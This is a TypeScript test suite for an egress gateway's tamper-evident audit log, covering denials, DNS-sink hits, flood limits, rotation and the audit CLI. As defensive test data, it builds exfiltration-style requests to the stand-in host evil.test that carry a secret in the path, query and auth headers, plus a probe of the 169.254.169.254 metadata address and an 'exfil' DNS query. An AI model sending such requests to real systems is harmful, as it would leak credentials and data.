// EgressGateway's audit stream (runtime/audit.ts): every denial and DNS-sink hit is one chained line with only its
// declared fields, nothing a request carried beyond its destination gets in, and a flood is bounded per agent.
// Loopback only: nothing is ever dialled (every case is refused before a dial).
import dgram from "node:dgram";
import { once } from "node:events";
import { existsSync, readFileSync, readdirSync } from "node:fs";
import net from "node:net";
import path from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { egressConfigSchema } from "../egress-image/src/config";
import type { EgressAgent } from "../egress-image/src/policy";
import { EgressGateway } from "../egress-image/src/server";
import { INGRESS_AUDIT_EVENTS } from "../ingress-image/src/server";
import { AuditLog, type AuditLine, type AuditRotation, readAuditLines, shortDigest, verifyChain } from "../runtime/audit";
import { jsonLogger } from "../runtime/log";
import { tailCommand, verifyCommand } from "../scripts/audit.mts";
import { tempDir } from "./support/tempDirs";

const AGENTS: EgressAgent[] = [
    { name: "bart", subnet: "127.0.0.0/25", mode: "enforce", allow: [{ host: "allowed.test", ports: [443] }] },
    { name: "lisa", subnet: "127.0.0.128/25", mode: "enforce", allow: [] },
];
const BART = "127.0.0.1";
const LISA = "127.0.0.129";
const STRANGER = "127.1.0.1";
/** In every hostile request below: none of it may reach the trail. */
const SECRET = "s3cr3tvalue";

let gateway: EgressGateway | undefined;
let auditDir: string;
let clock = 0;
const logs: string[] = [];

async function start(limits: { auditedDenialsPerSecond?: number; auditedDenialsBurst?: number } = {}, auditRotation?: AuditRotation) {
    auditDir = tempDir("egress-audit");
    const config = egressConfigSchema.parse({
        listen: { host: "127.0.0.1", port: 0 },
        dns: { host: "127.0.0.1", port: 0 },
        admin: [{ host: "127.0.0.1", port: 0 }],
        auditDir,
        limits,
        ...(auditRotation && { auditRotation }),
    });
    const deps = {
        resolve: async () => ["93.184.216.34"],
        dial: () => Promise.reject(new Error("no case here may dial")),
        ownAddresses: () => [],
    };
    gateway = new EgressGateway(config, jsonLogger("egress-gateway", (line) => logs.push(line)), deps, () => clock);
    await gateway.setAgents(AGENTS);
    return gateway.listen();
}

/** Closes the running gateway (once: afterEach closes only one still running). */
async function stop() {
    const running = gateway;
    gateway = undefined;
    await running?.close();
}

afterEach(async () => {
    await stop();
    clock = 0;
    logs.length = 0;
});

const streamFile = () => path.join(auditDir, "egress.audit.jsonl");
const streamText = () => (existsSync(streamFile()) ? readFileSync(streamFile(), "utf8") : "");

/** Waits for `count` lines on disk, then closes the gateway (which writes whatever else is queued) and reads them all. */
async function linesAfter(count: number): Promise<{ text: string; lines: AuditLine[] }> {
    await expect.poll(() => readAuditLines(streamText()).length, { timeout: 5000 }).toBeGreaterThanOrEqual(count);
    await stop();
    const text = streamText();
    return { text, lines: readAuditLines(text) };
}

/** Sends raw bytes from a chosen loopback source address; resolves with the answer once the gateway closes. */
function exchange(port: number, source: string, request: string): Promise<string> {
    return new Promise((resolve) => {
        const socket = net.connect({ port, host: "127.0.0.1", localAddress: source }, () => socket.write(request));
        let answer = "";
        socket.on("data", (chunk) => (answer += chunk.toString()));
        socket.on("error", () => undefined);
        socket.on("close", () => resolve(answer));
    });
}

const CHAIN_FIELDS = ["seq", "ts", "service", "type", "prev", "hash"];
const withSecretHeaders = `Proxy-Authorization: Basic ${Buffer.from(`bart:${SECRET}`).toString("base64")}\r\nAuthorization: Bearer ${SECRET}\r\nX-Note: ${SECRET}\r\n`;
const connectWithSecrets = (authority: string) => `CONNECT ${authority} HTTP/1.1\r\nHost: ${authority}\r\n${withSecretHeaders}\r\n`;

describe("a denial", () => {
    it.each<[string, string, string, Record<string, unknown>]>([
        ["CONNECT to a host not on the allowlist", BART, connectWithSecrets("evil.test:443"), { agent: "bart", remote: BART, host: "evil.test", port: 443, reason: "not_allowlisted", unaudited: 0 }],
        [
            "plain HTTP with a path and query",
            BART,
            `GET http://evil.test/${SECRET}?token=${SECRET} HTTP/1.1\r\nHost: evil.test\r\n${withSecretHeaders}\r\n`,
            { agent: "bart", remote: BART, host: "evil.test", port: 80, reason: "not_allowlisted", unaudited: 0 },
        ],
        ["an allowlisted host on a port not allowed", BART, connectWithSecrets("allowed.test:8443"), { agent: "bart", remote: BART, host: "allowed.test", port: 8443, reason: "not_allowlisted", unaudited: 0 }],
        ["an IP literal, with a qualified reason", BART, connectWithSecrets("169.254.169.254:443"), { agent: "bart", remote: BART, host: "169.254.169.254", port: 443, reason: "ip_literal", unaudited: 0 }],
        [
            "credentials in the URL (unreadable: no destination written)",
            BART,
            `GET http://bart:${SECRET}@evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n`,
            { agent: "bart", remote: BART, reason: "userinfo", unaudited: 0 },
        ],
        ["a source no agent owns", STRANGER, connectWithSecrets("allowed.test:443"), { agent: "unknown", remote: STRANGER, host: "allowed.test", port: 443, reason: "unknown_source", unaudited: 0 }],
        [
            "a WebSocket upgrade",
            BART,
            `GET /${SECRET} HTTP/1.1\r\nHost: evil.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n${withSecretHeaders}\r\n`,
            { agent: "bart", remote: BART, reason: "upgrade", unaudited: 0 },
        ],
    ])("%s: one chained line with exactly its fields, nothing secret", async (_case, source, request, fields) => {
        const { port } = await start();
        expect(await exchange(port, source, request)).toMatch(/^HTTP\/1\.1 403 /);
        const { text, lines } = await linesAfter(1);
        expect(verifyChain(text)).toMatchObject({ ok: true, lines: 1 });
        expect(lines).toHaveLength(1);
        expect(lines[0]).toMatchObject({ seq: 1, service: "egress", type: "egress_denied", ...fields });
        expect(Object.keys(lines[0]).sort()).toEqual([...CHAIN_FIELDS, ...Object.keys(fields)].sort());
        expect(text).not.toContain(SECRET);
        expect(text).not.toContain(Buffer.from(`bart:${SECRET}`).toString("base64"));
    });

    it("is not audited when it is a failure on the way (5xx), only logged and counted", async () => {
        const { port } = await start();
        expect(await exchange(port, BART, "CONNECT allowed.test:443 HTTP/1.1\r\nHost: allowed.test:443\r\n\r\n")).toMatch(/^HTTP\/1\.1 502 /);
        await stop();
        expect(streamText()).toBe("");
        expect(logs.some((line) => line.includes('"reason":"dial_failed"'))).toBe(true);
    });
});

describe("a DNS-sink hit", () => {
    const query = (labels: string[], type = 1) =>
        Buffer.concat([Buffer.from([0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]), ...labels.map((l) => Buffer.concat([Buffer.from([l.length]), Buffer.from(l, "latin1")])), Buffer.from([0, 0, type, 0, 1])]);

    it.each<[string, Buffer, Record<string, unknown>]>([
        ["a name", query(["exfil", "example", "test"], 28), { host: "exfil.example.test", qtype: 28 }],
        ["a name in capitals, written lowercase", query(["Exfil", "Example", "TEST"]), { host: "exfil.example.test", qtype: 1 }],
        ["a name of odd bytes, written as its digest", query([`a ${SECRET}"\n`, "test"]), { hostSha256: shortDigest(`a ${SECRET}"\n.test`), qtype: 1 }],
        ["a packet that is no query", Buffer.from(`not dns ${SECRET}`), {}],
    ])("%s: one chained line with exactly its fields", async (_case, packet, fields) => {
        const { dnsPort } = await start();
        const socket = dgram.createSocket("udp4");
        socket.bind(0, BART);
        await once(socket, "listening");
        socket.send(packet, dnsPort, "127.0.0.1");
        const { text, lines } = await linesAfter(1);
        socket.close();
        expect(verifyChain(text)).toMatchObject({ ok: true, lines: 1 });
        const expected = { agent: "bart", remote: BART, ...fields, unaudited: 0 };
        expect(lines[0]).toMatchObject({ service: "egress", type: "dns_refused", ...expected });
        expect(Object.keys(lines[0]).sort()).toEqual([...CHAIN_FIELDS, ...Object.keys(expected)].sort());
        expect(text).not.toContain(SECRET);
    });
});

describe("a flood", () => {
    const denied = "CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n";

    it("writes a burst of denials per agent, then only counts them; the next audited one carries the count", async () => {
        const { port } = await start({ auditedDenialsPerSecond: 1, auditedDenialsBurst: 3 });
        for (let i = 0; i < 10; i++) await exchange(port, BART, denied);
        expect(await exchange(port, LISA, denied)).toMatch(/^HTTP\/1\.1 403 /);
        clock = 1000;
        await exchange(port, BART, denied);
        const metrics = await gateway!.metrics.registry.metrics();
        const { text, lines } = await linesAfter(5);
        expect(verifyChain(text)).toMatchObject({ ok: true, lines: 5 });
        expect(lines.map((l) => [l.agent, l.unaudited])).toEqual([
            ["bart", 0],
            ["bart", 0],
            ["bart", 0],
            ["lisa", 0],
            ["bart", 7],
        ]);
        expect(metrics).toMatch(/egress_audit_events_total\{type="egress_denied"\} 5/);
        expect(metrics).toMatch(/egress_audit_unaudited_total\{type="egress_denied"\} 7/);
        expect(metrics).toMatch(/egress_decisions_total\{agent="bart",decision="deny",reason="not_allowlisted"\} 11/);
    });

    it("of DNS queries has a budget of its own, so it cannot hide an agent's denials", async () => {
        const { port, dnsPort } = await start({ auditedDenialsPerSecond: 1, auditedDenialsBurst: 2 });
        const socket = dgram.createSocket("udp4");
        socket.bind(0, BART);
        await once(socket, "listening");
        for (let i = 0; i < 6; i++) socket.send(Buffer.from("junk"), dnsPort, "127.0.0.1");
        await expect.poll(async () => (await gateway!.metrics.registry.getSingleMetric("egress_dns_queries_total")!.get()).values[0]?.value).toBe(6);
        socket.close();
        await exchange(port, BART, denied);
        const { lines } = await linesAfter(3);
        expect(lines.map((l) => l.type).sort()).toEqual(["dns_refused", "dns_refused", "egress_denied"]);
    });
});

describe("shutdown", () => {
    it("writes what is queued and closes the stream; a restarted gateway continues the chain", async () => {
        const { port } = await start();
        await exchange(port, BART, "CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n");
        await stop();
        expect(readAuditLines(streamText())).toHaveLength(1);
        const first = auditDir;
        const config = egressConfigSchema.parse({ listen: { host: "127.0.0.1", port: 0 }, dns: { host: "127.0.0.1", port: 0 }, admin: [{ host: "127.0.0.1", port: 0 }], auditDir: first });
        gateway = new EgressGateway(config, jsonLogger("egress-gateway", () => undefined), { resolve: async () => [], dial: () => Promise.reject(new Error("no dial")), ownAddresses: () => [] });
        await gateway.setAgents(AGENTS);
        const again = await gateway.listen();
        await exchange(again.port, BART, "CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n");
        const { text } = await linesAfter(2);
        expect(verifyChain(text)).toMatchObject({ ok: true, lines: 2 });
    });
});

describe("rotation", () => {
    it("follows auditRotation: the stream rotates, the oldest segments go, the chain verifies, no segment holds a secret", async () => {
        expect(egressConfigSchema.parse({}).auditRotation).toEqual({ maxFileBytes: 64 * 1024 * 1024, keepSegments: 10 });
        const { port } = await start({ auditedDenialsBurst: 100 }, { maxFileBytes: 1024, keepSegments: 2 });
        for (let i = 0; i < 16; i++) {
            expect(await exchange(port, BART, connectWithSecrets(`evil${i}.test:443`))).toMatch(/^HTTP\/1\.1 403 /);
            // one line to a group, each on disk before the next is asked for
            await expect.poll(() => tailCommand(auditDir, { count: 100 }).at(-1)?.host, { interval: 5 }).toBe(`evil${i}.test`);
        }
        await stop();
        const names = readdirSync(auditDir);
        expect(names.filter((name) => /^egress\.audit\.\d{12}\.jsonl$/.test(name))).toHaveLength(2);
        const printed: string[] = [];
        expect(verifyCommand(auditDir, (line) => printed.push(line))).toBe(0);
        expect(printed[0]).toMatch(/chain intact, resumed from [0-9a-f]{64}/);
        for (const name of names) expect(readFileSync(path.join(auditDir, name), "utf8")).not.toContain(SECRET);
    });
});

describe("npm run audit", () => {
    it("verifies the egress stream beside the Ingress's, and tail --agent bart shows both", async () => {
        const { port } = await start();
        await exchange(port, BART, "CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n");
        await exchange(port, LISA, "CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n");
        await linesAfter(2);
        const ingress = new AuditLog({ dir: auditDir, service: "ingress", events: INGRESS_AUDIT_EVENTS, onProblem: () => undefined });
        await ingress.record({ type: "forbidden", user: "ann", agent: "bart" });
        await ingress.close();
        const printed: string[] = [];
        expect(verifyCommand(auditDir, (line) => printed.push(line))).toBe(0);
        expect(printed).toHaveLength(2);
        expect(tailCommand(auditDir, { agent: "bart", count: 10 }).map((l) => [l.service, l.type])).toEqual([
            ["egress", "egress_denied"],
            ["ingress", "forbidden"],
        ]);
    });
});
